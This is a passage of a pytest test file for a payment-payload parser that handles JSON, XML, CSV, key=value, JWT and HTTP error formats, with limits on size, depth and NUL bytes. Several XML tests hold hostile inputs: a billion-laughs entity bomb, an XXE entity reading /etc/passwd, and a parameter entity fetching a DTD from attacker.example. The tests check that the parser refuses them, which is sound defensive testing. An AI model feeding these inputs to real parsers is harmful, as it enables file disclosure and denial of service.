"""Tests of the lake payload parser: every format, wrapper shape, limit and reason code."""

from __future__ import annotations

import base64
import json

import pytest

from payobs_pipeline.normalization import formats
from payobs_pipeline.normalization.formats import (
    CSV_MULTIPLE_RECORDS,
    CSV_NO_RECORDS,
    EMPTY_PAYLOAD,
    FORMAT_CSV,
    FORMAT_JSON,
    FORMAT_JSON_STRING,
    FORMAT_DELIMITED,
    FORMAT_HTTP_ERROR,
    FORMAT_JWT,
    FORMAT_KV,
    FORMAT_XML,
    INVALID_UNICODE,
    MALFORMED_CSV,
    MALFORMED_JSON,
    MALFORMED_JWT,
    MALFORMED_KV,
    MALFORMED_XML,
    MAX_DEPTH,
    MAX_PAYLOAD_BYTES,
    NOT_AN_OBJECT,
    NUMBER_OUT_OF_RANGE,
    NUL_BYTE,
    PAYLOAD_TOO_DEEP,
    PAYLOAD_TOO_LARGE,
    REASON_CODES,
    UNRECOGNIZED_FORMAT,
    XML_FORBIDDEN_CONSTRUCT,
    ParsedPayload,
    PayloadParseError,
    parse_content,
    parse_lake_data,
)

# --- fixtures: realistic provider documents ------------------------------------------

STRIPE_CHARGE = {
    "id": "ch_3MmlLrLkdIwHu7ix0snN0B15",
    "object": "charge",
    "amount": 1099,
    "currency": "usd",
    "status": "failed",
    "failure_code": "card_declined",
    "outcome": {"network_status": "declined_by_network", "reason": "insufficient_funds", "type": "issuer_declined"},
    "payment_method_details": {"type": "card", "card": {"brand": "visa", "last4": "0002", "exp_year": 2026}},
    "metadata": {"order_id": "6735"},
    "source": {"id": "card_1", "object": "card"},
}

STRIPE_EVENT = {
    "id": "evt_1NG8Du2eZvKYlo2CUI79vXWy",
    "object": "event",
    "api_version": "2022-11-15",
    "type": "charge.failed",
    "data": {"object": STRIPE_CHARGE},
    "livemode": False,
    "request": {"id": None, "idempotency_key": None},
}

PAYPAL_WEBHOOK = {
    "id": "WH-2WR32451HC0233532-67976317FL4543714",
    "event_type": "PAYMENT.CAPTURE.DENIED",
    "resource_type": "capture",
    "summary": "Payment denied",
    "resource": {"id": "7NW873794T343360M", "status": "DECLINED", "amount": {"currency_code": "USD", "value": "10.00"}},
}

# Razorpay webhooks carry a real "payload" key beside many others: not a wrapper.
RAZORPAY_WEBHOOK = {
    "entity": "event",
    "account_id": "acc_BFQ7uQEaa7j2z7",
    "event": "payment.failed",
    "contains": ["payment"],
    "payload": {
        "payment": {"entity": {"id": "pay_DESlfW9H8K9uqM", "status": "failed", "error_code": "BAD_REQUEST_ERROR"}}
    },
    "created_at": 1567674606,
}

WORLDPAY_NOTIFICATION = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE paymentService PUBLIC "-//WorldPay//DTD WorldPay PaymentService v1//EN"
  "http://dtd.worldpay.com/paymentService_v1.dtd">
<paymentService version="1.4" merchantCode="ACMESHOP">
  <notify>
    <orderStatusEvent orderCode="order-8812">
      <!-- the order code sent in the request -->
      <payment>
        <paymentMethod>VISA-SSL</paymentMethod>
        <amount value="1500" currencyCode="GBP" exponent="2" debitCreditIndicator="credit"/>
        <lastEvent>
          CAPTURED
        </lastEvent>
        <ISO8583ReturnCode code="0" description="APPROVED"/>
        <riskScore value="0"/>
      </payment>
      <journal journalType="CAPTURED">
        <bookingDate><date dayOfMonth="05" month="11" year="2025"/></bookingDate>
        <accountTx accountType="IN_PROCESS_CAPTURED" batchId="1910">
          <amount value="1500" currencyCode="GBP" exponent="2" debitCreditIndicator="credit"/>
        </accountTx>
        <accountTx accountType="IN_PROCESS_AUTHORISED" batchId="2047">
          <amount value="1500" currencyCode="GBP" exponent="2" debitCreditIndicator="debit"/>
        </accountTx>
      </journal>
    </orderStatusEvent>
  </notify>
</paymentService>"""

BRAINTREE_NOTIFICATION = """<notification>
  <timestamp type="datetime">2025-11-27T10:00:00Z</timestamp>
  <kind>transaction_disbursed</kind>
  <subject>
    <transaction>
      <id>f4ksq3</id>
      <amount>100.00</amount>
      <processor-response-code>2001</processor-response-code>
      <gateway-rejection-reason nil="true"/>
      <avs-error-response-code></avs-error-response-code>
      <transaction-ids type="array">
        <item>afv56j</item>
        <item>kj8hjk</item>
      </transaction-ids>
    </transaction>
  </subject>
</notification>"""

SOAP_NOTIFICATION = """<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:ns1="http://notification.services.adyen.com">
  <soap:Body>
    <ns1:sendNotification>
      <ns1:notification ns1:live="false">
        <ns1:NotificationRequestItem>
          <ns1:eventCode>AUTHORISATION</ns1:eventCode>
          <ns1:success>false</ns1:success>
          <ns1:reason>Refused</ns1:reason>
        </ns1:NotificationRequestItem>
      </ns1:notification>
    </ns1:sendNotification>
  </soap:Body>
</soap:Envelope>"""


def reason_of(data_text: str) -> str:
    with pytest.raises(PayloadParseError) as caught:
        parse_lake_data(data_text)
    assert caught.value.reason_code in REASON_CODES
    return caught.value.reason_code


def wrapper(**fields) -> str:
    return json.dumps(fields)


# --- plain JSON objects -----------------------------------------------------------------


def test_plain_provider_object_is_returned_as_json_without_hints():
    parsed = parse_lake_data(json.dumps(STRIPE_CHARGE))
    assert parsed == ParsedPayload(FORMAT_JSON, STRIPE_CHARGE, {})


@pytest.mark.parametrize(
    "document", [STRIPE_EVENT, PAYPAL_WEBHOOK, RAZORPAY_WEBHOOK], ids=["stripe", "paypal", "razorpay"]
)
def test_provider_documents_with_nested_objects_are_not_unwrapped(document):
    parsed = parse_lake_data(json.dumps(document))
    assert parsed.format == FORMAT_JSON
    assert parsed.body == document


def test_provider_error_object_with_plain_text_message_is_a_document():
    document = {"message": "Your card was declined.", "provider": "stripe"}
    parsed = parse_lake_data(json.dumps(document))
    assert parsed.body == document
    assert parsed.hints == {"provider": "stripe"}


# --- hints -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    ["provider", "p_id", "psp", "gateway", "processor", "acquirer", "provider_name", "source_system",
     "Provider", "PSP", "providerName", "sourceSystem"],
)
def test_every_provider_hint_key_becomes_the_provider_hint(key):
    parsed = parse_lake_data(json.dumps({key: " WorldPay-UK ", "status": "REFUSED"}))
    # the value is kept as found, not interpreted or trimmed
    assert parsed.hints == {"provider": " WorldPay-UK "}
    assert parsed.body[key] == " WorldPay-UK "


def test_numeric_provider_id_hint_keeps_its_text():
    assert parse_lake_data('{"p_id": 17, "status": "ok"}').hints == {"provider": "17"}


def test_provider_key_wins_over_other_hint_keys():
    parsed = parse_lake_data(json.dumps({"gateway": "braintree", "provider": "paypal", "amount": 1}))
    assert parsed.hints == {"provider": "paypal"}


def test_hint_keys_holding_objects_or_blanks_are_not_hints():
    parsed = parse_lake_data(json.dumps({"gateway": {"name": "x"}, "psp": "  ", "processor": True, "id": "1"}))
    assert parsed.hints == {}


def test_wrapper_hint_wins_over_document_hint():
    data = wrapper(provider="adyen", payload={"psp": "checkout", "resultCode": "Refused"})
    assert parse_lake_data(data).hints == {"provider": "adyen"}


def test_document_hint_inside_wrapper_is_used_when_wrapper_has_none():
    data = wrapper(payload={"gateway": "mercadopago", "status": "rejected"})
    assert parse_lake_data(data).hints == {"provider": "mercadopago"}


# --- wrappers ------------------------------------------------------------------------------


def test_wrapper_with_xml_content_format_and_provider():
    parsed = parse_lake_data(wrapper(content=WORLDPAY_NOTIFICATION, format="xml", provider="worldpay"))
    assert parsed.format == FORMAT_XML
    assert parsed.hints == {"provider": "worldpay", "format": "xml"}
    assert parsed.body["paymentService"]["@merchantCode"] == "ACMESHOP"


def test_wrapper_with_object_payload():
    adyen = {"pspReference": "8535296650153317", "resultCode": "Refused", "refusalReasonCode": "12"}
    parsed = parse_lake_data(wrapper(provider="adyen", payload=adyen))
    assert parsed == ParsedPayload(FORMAT_JSON, adyen, {"provider": "adyen"})


@pytest.mark.parametrize("key", ["content", "payload", "body", "raw", "raw_payload", "message", "rawPayload"])
def test_every_content_key_is_unwrapped(key):
    parsed = parse_lake_data(json.dumps({key: json.dumps({"status": "declined"}), "psp": "payu"}))
    assert parsed.format == FORMAT_JSON_STRING
    assert parsed.body == {"status": "declined"}
    assert parsed.hints == {"provider": "payu"}


@pytest.mark.parametrize(
    ("hint", "content", "expected_format", "expected_body"),
    [
        ("application/xml", "<status>REFUSED</status>", FORMAT_XML, {"status": "REFUSED"}),
        ("text/csv; charset=utf-8", "status,amount\nREFUSED,10\n", FORMAT_CSV, {"status": "REFUSED", "amount": "10"}),
        ("application/x-www-form-urlencoded", "status=REFUSED&amount=1", FORMAT_KV, {"status": "REFUSED", "amount": "1"}),
        ("kv", "status=REFUSED;amount=10.00", FORMAT_KV, {"status": "REFUSED", "amount": "10.00"}),
        ("json", '{"status": "REFUSED"}', FORMAT_JSON_STRING, {"status": "REFUSED"}),
    ],
)
def test_wrapper_content_type_hints(hint, content, expected_format, expected_body):
    parsed = parse_lake_data(wrapper(body=content, content_type=hint))
    assert (parsed.format, parsed.body) == (expected_format, expected_body)
    assert parsed.hints == {"format": hint}


def test_wrapper_with_envelope_metadata_and_one_extra_key_beside_a_hint():
    data = wrapper(content="a=1", provider="dlocal", received_at="2025-11-27T10:00:00Z", id="row-1")
    parsed = parse_lake_data(data)
    assert (parsed.format, parsed.body) == (FORMAT_KV, {"a": "1"})


def test_object_with_content_key_and_several_other_keys_is_a_document():
    document = {"content": "a=1", "status": "paid", "amount": 10}
    assert parse_lake_data(json.dumps(document)).body == document


def test_wrapper_inside_a_json_string_is_unwrapped():
    data = json.dumps(json.dumps({"content": "<r><status>ok</status></r>", "provider": "worldpay"}))
    parsed = parse_lake_data(data)
    assert parsed.format == FORMAT_XML
    assert parsed.body == {"r": {"status": "ok"}}
    assert parsed.hints == {"provider": "worldpay"}


def test_wrapper_inside_wrapper_is_unwrapped():
    data = wrapper(provider="ebanx", payload={"content": "status=CA", "format": "kv"})
    parsed = parse_lake_data(data)
    assert (parsed.format, parsed.body) == (FORMAT_KV, {"status": "CA"})
    assert parsed.hints == {"provider": "ebanx", "format": "kv"}


def test_wrong_format_hint_falls_back_to_detection():
    parsed = parse_lake_data(wrapper(content='{"status": "approved"}', format="xml", provider="mercadopago"))
    assert parsed.format == FORMAT_JSON_STRING
    assert parsed.body == {"status": "approved"}
    assert parsed.hints["format"] == "xml"  # the claim is kept, format shows what it really was


def test_wrong_csv_hint_on_kv_content_falls_back_to_kv():
    assert parse_content("status=approved&amount=5", "csv") == (FORMAT_KV, {"status": "approved", "amount": "5"})


def test_unknown_format_hint_is_ignored():
    assert parse_content("<a>1</a>", "application/octet-stream") == (FORMAT_XML, {"a": "1"})


def test_wrong_hint_and_malformed_content_reports_the_detected_format():
    with pytest.raises(PayloadParseError) as caught:
        parse_content('{"status": ', "xml")
    assert caught.value.reason_code == MALFORMED_JSON


# --- JSON in strings ---------------------------------------------------------------------------


def test_json_in_string():
    parsed = parse_lake_data(json.dumps(json.dumps(STRIPE_CHARGE)))
    assert parsed == ParsedPayload(FORMAT_JSON_STRING, STRIPE_CHARGE, {})


def test_double_encoded_json_in_string():
    parsed = parse_lake_data(json.dumps(json.dumps(json.dumps({"psp": "mollie", "status": "failed"}))))
    assert parsed.format == FORMAT_JSON_STRING
    assert parsed.body == {"psp": "mollie", "status": "failed"}
    assert parsed.hints == {"provider": "mollie"}


def test_too_many_string_layers_are_refused():
    data = {"status": "failed"}
    for _ in range(formats.MAX_STRING_LAYERS + 2):
        data = json.dumps(data)
    assert reason_of(data) == PAYLOAD_TOO_DEEP


def test_string_holding_xml_csv_and_kv():
    assert parse_lake_data(json.dumps("<status>ok</status>")).body == {"status": "ok"}
    assert parse_lake_data(json.dumps("a;b\n1;2")).body == {"a": "1", "b": "2"}
    assert parse_lake_data(json.dumps("a=1 b=2")).body == {"a": "1", "b": "2"}


def test_bytes_and_decoded_dict_inputs():
    assert parse_lake_data(json.dumps(STRIPE_CHARGE).encode()).body == STRIPE_CHARGE
    assert parse_lake_data(dict(STRIPE_CHARGE)).body == STRIPE_CHARGE


def test_raw_xml_text_outside_json_is_still_parsed():
    assert parse_lake_data("<status>ok</status>") == ParsedPayload(FORMAT_XML, {"status": "ok"}, {})


# --- XML convention --------------------------------------------------------------------------------


def test_worldpay_notification_with_external_doctype():
    _, body = parse_content(WORLDPAY_NOTIFICATION)
    service = body["paymentService"]
    assert list(body) == ["paymentService"]
    assert service["@version"] == "1.4"
    event = service["notify"]["orderStatusEvent"]
    assert event["@orderCode"] == "order-8812"
    payment = event["payment"]
    assert payment["paymentMethod"] == "VISA-SSL"
    assert payment["lastEvent"] == "CAPTURED"  # surrounding whitespace stripped
    assert payment["amount"] == {
        "@value": "1500", "@currencyCode": "GBP", "@exponent": "2", "@debitCreditIndicator": "credit"
    }
    assert payment["ISO8583ReturnCode"]["@code"] == "0"
    transactions = event["journal"]["accountTx"]
    assert [tx["@batchId"] for tx in transactions] == ["1910", "2047"]  # repeated siblings, document order
    assert transactions[1]["amount"]["@debitCreditIndicator"] == "debit"


def test_braintree_notification_typed_text_nil_and_empty_elements():
    _, body = parse_content(BRAINTREE_NOTIFICATION)
    notification = body["notification"]
    assert notification["timestamp"] == {"@type": "datetime", "#text": "2025-11-27T10:00:00Z"}
    transaction = notification["subject"]["transaction"]
    assert transaction["processor-response-code"] == "2001"
    assert transaction["gateway-rejection-reason"] == {"@nil": "true"}
    assert transaction["avs-error-response-code"] is None
    assert transaction["transaction-ids"] == {"@type": "array", "item": ["afv56j", "kj8hjk"]}


def test_namespaces_are_stripped_from_elements_and_attributes():
    _, body = parse_content(SOAP_NOTIFICATION)
    notification = body["Envelope"]["Body"]["sendNotification"]["notification"]
    assert notification["@live"] == "false"
    item = notification["NotificationRequestItem"]
    assert item == {"eventCode": "AUTHORISATION", "success": "false", "reason": "Refused"}


def test_mixed_text_and_children_keeps_text():
    _, body = parse_content("<error code='51'>Insufficient funds<detail>x</detail></error>")
    assert body == {"error": {"@code": "51", "detail": "x", "#text": "Insufficient funds"}}


def test_xml_with_legacy_encoding_declaration_in_a_string():
    _, body = parse_content('<?xml version="1.0" encoding="ISO-8859-1"?><name>Jos\u00e9</name>')
    assert body == {"name": "Jos\u00e9"}


def test_billion_laughs_is_refused_without_expansion():
    # lol1 holds ten &lol;, lol2 ten &lol1; ... lol9 expands to 10**9 "lol".
    levels = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        inner = "&lol;" if level == 1 else f"&lol{level - 1};"
        levels.append(f'<!ENTITY lol{level} "{inner * 10}">')
    lol = '<?xml version="1.0"?><!DOCTYPE lolz [' + "".join(levels) + "]><lolz>&lol9;</lolz>"
    # Refused, not expanded: building the 10**9 "lol"s would take gigabytes (a memory error, not this reason).
    with pytest.raises(PayloadParseError) as caught:
        parse_content(lol)
    assert caught.value.reason_code == XML_FORBIDDEN_CONSTRUCT
    assert "lol" not in caught.value.detail


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><foo/>',
        '<!DOCTYPE foo [<!ELEMENT foo ANY>]><foo/>',
    ],
    ids=["external-entity", "parameter-entity", "internal-subset"],
)
def test_entities_and_internal_subsets_are_forbidden(document):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(document, "xml")
    assert caught.value.reason_code == XML_FORBIDDEN_CONSTRUCT
    assert "passwd" not in caught.value.detail and "attacker" not in caught.value.detail


def test_external_doctype_reference_is_never_fetched():
    # A reference to an undeclared entity cannot pull text from the named DTD.
    with pytest.raises(PayloadParseError) as caught:
        parse_content('<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo>&xxe;</foo>')
    assert caught.value.reason_code == MALFORMED_XML
    assert parse_content('<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo>ok</foo>') == (FORMAT_XML, {"foo": "ok"})


def test_xml_depth_limit():
    at_limit = "<a>" * MAX_DEPTH + "x" + "</a>" * MAX_DEPTH
    _, body = parse_content(at_limit)
    assert body["a"]["a"]["a"]  # parsed fine at exactly MAX_DEPTH
    for depth in (MAX_DEPTH + 1, 100_000):
        with pytest.raises(PayloadParseError) as caught:
            parse_content("<a>" * depth + "</a>" * depth)
        assert caught.value.reason_code == PAYLOAD_TOO_DEEP


# --- JSON depth, size, NUL ------------------------------------------------------------------------


def nested_json(depth: int) -> str:
    """An object nested ``depth`` levels deep: {"a":{"a":...{}}}."""
    return '{"a":' * (depth - 1) + "{}" + "}" * (depth - 1)


def test_json_depth_limit_objects():
    assert parse_lake_data(nested_json(MAX_DEPTH)).format == FORMAT_JSON
    assert reason_of(nested_json(MAX_DEPTH + 1)) == PAYLOAD_TOO_DEEP


def test_json_depth_limit_arrays_inside_object():
    inside = "[" * MAX_DEPTH + "]" * MAX_DEPTH
    assert reason_of('{"items": ' + inside + "}") == PAYLOAD_TOO_DEEP
    inside = "[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1)
    assert parse_lake_data('{"items": ' + inside + "}").format == FORMAT_JSON


def test_hundred_thousand_levels_of_json_do_not_crash():
    assert reason_of(nested_json(100_000)) == PAYLOAD_TOO_DEEP
    assert reason_of("[" * 100_000 + "]" * 100_000) == PAYLOAD_TOO_DEEP
    assert reason_of(json.dumps({"content": "[" * 100_000 + "]" * 100_000})) == PAYLOAD_TOO_DEEP


def test_deep_json_inside_a_string_is_refused():
    assert reason_of(json.dumps(nested_json(MAX_DEPTH + 1))) == PAYLOAD_TOO_DEEP


def test_many_shallow_brackets_are_not_too_deep():
    document = {"items": [{"id": i, "tags": []} for i in range(200)]}
    assert parse_lake_data(json.dumps(document)).body == document


def test_payload_size_limit_counts_utf8_bytes():
    filler = "x" * (MAX_PAYLOAD_BYTES - 20)
    assert parse_lake_data(json.dumps({"a": filler})).body == {"a": filler}
    assert reason_of(json.dumps({"a": "x" * MAX_PAYLOAD_BYTES})) == PAYLOAD_TOO_LARGE
    # 600k characters but 1.2 MB of UTF-8
    assert reason_of(json.dumps({"a": "\u00e9" * 600_000}, ensure_ascii=False)) == PAYLOAD_TOO_LARGE
    with pytest.raises(PayloadParseError) as caught:
        parse_content("a=" + "1" * MAX_PAYLOAD_BYTES)
    assert caught.value.reason_code == PAYLOAD_TOO_LARGE


@pytest.mark.parametrize(
    "data",
    [
        '{"status": "ok"}\x00',
        '{"status": "ok\\u0000"}',
        '{"st\\u0000atus": "ok"}',
        '{"items": [{"note": "a\\u0000"}]}',
        json.dumps({"content": "<a>x\x00</a>", "format": "xml"}),
        json.dumps({"content": "a=1&b=%00"}),
        json.dumps(json.dumps({"note": "a\x00"})),
    ],
    ids=["raw", "escaped-value", "escaped-key", "nested", "wrapped-xml", "form-encoded", "json-in-string"],
)
def test_nul_characters_anywhere_are_refused(data):
    assert reason_of(data) == NUL_BYTE


def test_escaped_backslash_u_text_is_not_a_nul():
    document = {"path": "C:\\u0000dir"}  # a backslash followed by "u0000" text
    assert parse_lake_data(json.dumps(document)).body == document


# --- CSV -------------------------------------------------------------------------------------------


def test_csv_one_record_with_bom_padded_headers_and_trailing_blank_lines():
    content = "\ufeff status , amount,currency\nREFUSED,10.00,EUR\n\n\n"
    assert parse_content(content) == (FORMAT_CSV, {"status": "REFUSED", "amount": "10.00", "currency": "EUR"})


@pytest.mark.parametrize("delimiter", [";", "|", "\t"])
def test_csv_other_delimiters(delimiter):
    content = delimiter.join(["status", "amount", "note"]) + "\n" + delimiter.join(["REFUSED", "10,50", "a b"])
    assert parse_content(content) == (FORMAT_CSV, {"status": "REFUSED", "amount": "10,50", "note": "a b"})


def test_csv_quoted_field_with_delimiter_and_newline():
    content = 'status,message\nDECLINED,"Do not honor,\nretry later"\n'
    assert parse_content(content)[1] == {"status": "DECLINED", "message": "Do not honor,\nretry later"}


def test_csv_trailing_delimiter_is_tolerated():
    assert parse_content("a,b,\n1,2,\n")[1] == {"a": "1", "b": "2"}


@pytest.mark.parametrize(
    ("content", "hint", "reason"),
    [
        ("status,amount\n", "csv", CSV_NO_RECORDS),
        ("status,amount\n\n  \n", "text/csv", CSV_NO_RECORDS),
        ("status,amount\nREFUSED,1\nAUTHORISED,2\n", None, CSV_MULTIPLE_RECORDS),
        ("status,amount\nREFUSED,1,extra\n", None, MALFORMED_CSV),
        ('status,amount\n"REFUSED"x,1\n', None, MALFORMED_CSV),
        ("status,status\nREFUSED,1\n", None, MALFORMED_CSV),
        ("status,\nREFUSED,1\n", None, MALFORMED_CSV),
    ],
    ids=["header-only", "blank-lines", "two-records", "extra-field", "bad-quote", "duplicate-header", "unnamed-column"],
)
def test_csv_errors(content, hint, reason):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content, hint)
    assert caught.value.reason_code == reason
    assert "REFUSED" not in caught.value.detail


# --- key=value -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            "status=declined&email=a%40b.example&reason=do+not+honor",
            {"status": "declined", "email": "a@b.example", "reason": "do not honor"},
        ),
        ("status=declined; amount=10.00 ;currency=BRL", {"status": "declined", "amount": "10.00", "currency": "BRL"}),
        ("status=declined\namount=1\r\n\ncurrency=BRL\n", {"status": "declined", "amount": "1", "currency": "BRL"}),
        ("status=declined amount=10.00 currency=BRL", {"status": "declined", "amount": "10.00", "currency": "BRL"}),
        ("note=a=b", {"note": "a=b"}),
        ("status=pending&status=approved", {"status": "approved"}),
        ("status=&amount=1&", {"status": "", "amount": "1"}),
    ],
    ids=["form", "semicolon", "newline", "space", "equals-in-value", "repeated-last-wins", "blank-value"],
)
def test_key_value_forms(content, expected):
    assert parse_content(content) == (FORMAT_KV, expected)


@pytest.mark.parametrize(
    "content", ["status=declined&amount", "=declined", "status=declined reason", "a=1\nnot a pair"]
)
def test_malformed_key_value(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content, "kv")
    assert caught.value.reason_code == MALFORMED_KV
    assert "declined" not in caught.value.detail


@pytest.mark.parametrize(
    ("content", "values"),
    [
        ("1,1,1,This transaction has been approved.,AF2X7K,Y,2149186775,,,20.00,CC,auth_capture",
         ["1", "1", "1", "This transaction has been approved.", "AF2X7K", "Y", "2149186775", "", "", "20.00", "CC",
          "auth_capture"]),
        ("2|1|2|Declined|||0|x|y", ["2", "1", "2", "Declined", "", "", "0", "x", "y"]),
        ("$1$,$1$,$1$,$Approved, with a comma$,$A$,$Y$,$7$", ["1", "1", "1", "Approved, with a comma", "A", "Y", "7"]),
        # AIM with x_encap_char '"': starts like a JSON string, but a JSON literal has nothing after its quote.
        ('"1","1","1","(TESTMODE) This transaction has been approved.","000000","P","0","","","5.24","CC"',
         ["1", "1", "1", "(TESTMODE) This transaction has been approved.", "000000", "P", "0", "", "", "5.24", "CC"]),
        ('"2"|"2"|"2"|"Declined"|""|""|"0"', ["2", "2", "2", "Declined", "", "", "0"]),
    ],
    ids=["comma", "pipe", "encapsulated", "double_quoted", "double_quoted_pipe"],
)
def test_one_line_of_positional_values_is_a_delimited_document(content, values):
    assert parse_content(content) == (FORMAT_DELIMITED, {"values": values})


def test_a_form_body_with_a_line_break_after_each_ampersand_is_read_as_a_form():
    # A PayPal IPN copied from a log: form-encoded, so the '&' goes and the values are URL-decoded.
    content = "mc_gross=48.00&\npayment_status=Completed&\r\npayment_date=11%3A07%3A43+Dec+27%2C+2023+PST&\nx=a%26b"
    assert parse_content(content) == (FORMAT_KV, {
        "mc_gross": "48.00", "payment_status": "Completed", "payment_date": "11:07:43 Dec 27, 2023 PST", "x": "a&b"})
    # Lines that do not all end with '&' stay one pair per line, values as written.
    assert parse_content("a=1&\nb=2\nc=3")[1] == {"a": "1&", "b": "2", "c": "3"}


@pytest.mark.parametrize("content", ["a,b,c", "just words", "1|2|3|4|5|6"])
def test_a_short_delimited_line_is_not_a_document(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content)
    assert caught.value.reason_code == UNRECOGNIZED_FORMAT


@pytest.mark.parametrize("content", ['"a","b","c"', '"1","2","3","4","5","6"\n"7"', '"one","two"x'])
def test_a_short_or_broken_quoted_line_is_still_read_as_json_and_refused(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content)
    assert caught.value.reason_code == MALFORMED_JSON


def _base64url(document) -> str:
    return base64.urlsafe_b64encode(json.dumps(document).encode()).rstrip(b"=").decode()


def test_a_compact_jws_is_read_as_its_claims_without_verifying_the_signature():
    # RFC 7515 compact serialization: base64url(header).base64url(claims).base64url(signature).
    claims = {"invoiceNo": "1523953661", "respCode": "0000", "amount": 10.5}
    token = f"{_base64url({'alg': 'HS256', 'typ': 'JWT'})}.{_base64url(claims)}.c2lnbmF0dXJl"
    assert parse_content(token) == (FORMAT_JWT, claims)
    assert parse_lake_data(json.dumps({"payload": token})).body == claims


@pytest.mark.parametrize("claims", [[1, 2], "text"])
def test_a_jws_whose_claims_are_not_an_object_is_malformed(claims):
    token = f"{_base64url({'alg': 'none'})}.{_base64url(claims)}."
    with pytest.raises(PayloadParseError) as caught:
        parse_content(token)
    assert caught.value.reason_code == MALFORMED_JWT


def test_dotted_text_that_is_no_jws_is_not_read_as_one():
    with pytest.raises(PayloadParseError) as caught:
        parse_content("abcdefghij.klmnopqrst.uvwxyz")  # the first part is no JSON header
    assert caught.value.reason_code == UNRECOGNIZED_FORMAT


@pytest.mark.parametrize(
    ("content", "status", "reason"),
    [
        ("<html>\r\n<head><title>401 Authorization Required</title></head>\r\n<body><center><h1>401 "
         "Authorization Required</h1></center><hr><center>openresty</center></body></html>", 401,
         "Authorization Required"),
        ("<!DOCTYPE html><html><head><title>503 Service Temporarily Unavailable</title></head></html>", 503,
         "Service Temporarily Unavailable"),
        ("Unauthorized", 401, "Unauthorized"),
        ("Internal Server Error.", 500, "Internal Server Error"),
        ("HTTP/1.1 504 Gateway Timeout", 504, "Gateway Timeout"),
    ],
    ids=["nginx-page", "doctype-page", "phrase", "phrase-with-period", "status-line"],
)
def test_an_http_error_answer_is_its_status(content, status, reason):
    # RFC 9110 section 15: the status code and its reason phrase are all such an answer says.
    assert parse_content(content) == (FORMAT_HTTP_ERROR, {"http_status": status, "http_reason": reason})


@pytest.mark.parametrize("content", ["<!DOCTYPE html><html><body><h1>Welcome</h1></body></html>",
                                     "Unauthorized access to the account was detected"])
def test_text_that_only_looks_like_an_http_answer_is_not_one(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content)
    assert caught.value.reason_code == UNRECOGNIZED_FORMAT


def test_a_bracketed_value_split_over_lines_is_one_value():
    # Opayo ids are written in braces (VPSTxId={...}); the lines inside an open bracket continue the value.
    content = "Status=OK\nVPSTxId={\n  AB12CD34-0000-1111-2222-333344445555\n}\nTxAuthNo=42\n"
    assert parse_content(content) == (FORMAT_KV, {"Status": "OK", "VPSTxId": "{AB12CD34-0000-1111-2222-333344445555}",
                                                  "TxAuthNo": "42"})
    assert parse_content("Ids=[\n7,\n8\n]\nStatus=OK") == (FORMAT_KV, {"Ids": "[7,8]", "Status": "OK"})


@pytest.mark.parametrize("content", ["Status=OK\nVPSTxId={AB12}\nstray line", "Status=OK\nnot a pair\nVPSTxId={AB12}",
                                     "Status=OK\nVPSTxId={AB12}}\nstray"])
def test_a_line_without_equals_outside_an_open_bracket_stays_malformed(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content, "kv")
    assert caught.value.reason_code == MALFORMED_KV


def test_a_pair_after_an_unclosed_bracket_is_its_own_pair():
    assert parse_content("VPSTxId={AB12\nStatus=OK") == (FORMAT_KV, {"VPSTxId": "{AB12", "Status": "OK"})


def test_key_value_pairs_quoted_one_per_line_are_key_value():
    # SafeCharge gateway replies: "Key=Value" in double quotes, one per line.
    content = '"TransactionID=1504674406"\n"Status=APPROVED"\n"ErrCode=0"\n"Reason="\n'
    assert parse_content(content) == (FORMAT_KV, {"TransactionID": "1504674406", "Status": "APPROVED",
                                                  "ErrCode": "0", "Reason": ""})


# --- empty, not-an-object, unrecognized, malformed ------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    ["", "   \n", "null", "{}", '""', '"   "', "[]", json.dumps({"content": "", "provider": "x"}),
     json.dumps({"payload": None}), json.dumps({"payload": {}, "psp": "x"})],
)
def test_empty_payloads(data):
    assert reason_of(data) == EMPTY_PAYLOAD


def test_null_data_is_empty():
    assert reason_of(None) == EMPTY_PAYLOAD


@pytest.mark.parametrize(
    "data",
    [{"provider": "adyen"}, {"PSP": "Stripe", "format": "json"}, {"gateway": "mercadopago", "received_at": "2026-01-01"}],
)
def test_hint_without_a_document_is_empty(data):
    # A lake writer that kept only the provider hint: there is no payment to read.
    assert reason_of(json.dumps(data)) == EMPTY_PAYLOAD
    assert reason_of(json.dumps(json.dumps(data))) == EMPTY_PAYLOAD


def test_hint_beside_a_document_is_kept():
    parsed = parse_lake_data(json.dumps({"provider": "adyen", "pspReference": "8816178952057711"}))
    assert parsed.body["pspReference"] == "8816178952057711"
    assert parsed.hints == {"provider": "adyen"}


@pytest.mark.parametrize(
    "data",
    [
        "[1, 2]",
        "42",
        "true",
        '[{"status": "ok"}]',
        json.dumps("[1, 2]"),
        json.dumps({"payload": [{"a": 1}], "provider": "x"}),
    ],
)
def test_not_an_object(data):
    assert reason_of(data) == NOT_AN_OBJECT


def test_unrecognized_format_detail_is_masked():
    with pytest.raises(PayloadParseError) as caught:
        parse_lake_data(json.dumps({"content": "Card 4111111111111111 declined for John"}))
    assert caught.value.reason_code == UNRECOGNIZED_FORMAT
    assert "4111" not in caught.value.detail and "John" not in caught.value.detail
    assert len(caught.value.detail) < 120


def test_unrecognized_plain_string_and_header_only_line():
    assert reason_of(json.dumps("just some text")) == UNRECOGNIZED_FORMAT
    assert reason_of(json.dumps("status,amount")) == UNRECOGNIZED_FORMAT


def test_malformed_json_detail_gives_position_not_content():
